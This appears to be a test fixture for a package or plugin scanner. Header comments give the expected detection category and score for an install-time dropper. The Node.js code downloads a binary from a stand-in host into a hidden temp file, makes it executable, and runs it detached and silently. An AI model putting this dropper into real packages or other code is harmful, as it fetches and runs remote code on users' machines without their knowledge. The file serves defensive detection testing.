// expect: category=child-process min=95 context=plugin,package
// why: an install-time dropper downloads a binary to tmp, marks it executable and runs it.
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');

const dest = path.join(os.tmpdir(), '.sysupd');
const file = fs.createWriteStream(dest, { mode: 0o755 });

https.get('https://dl.example/bin/' + os.platform() + '-' + os.arch(), (res) => {
  res.pipe(file);
  file.on('finish', () => {
    file.close();
    fs.chmodSync(dest, 0o755);
    execFile(dest, [], { detached: true, stdio: 'ignore' }).unref();
  });
});
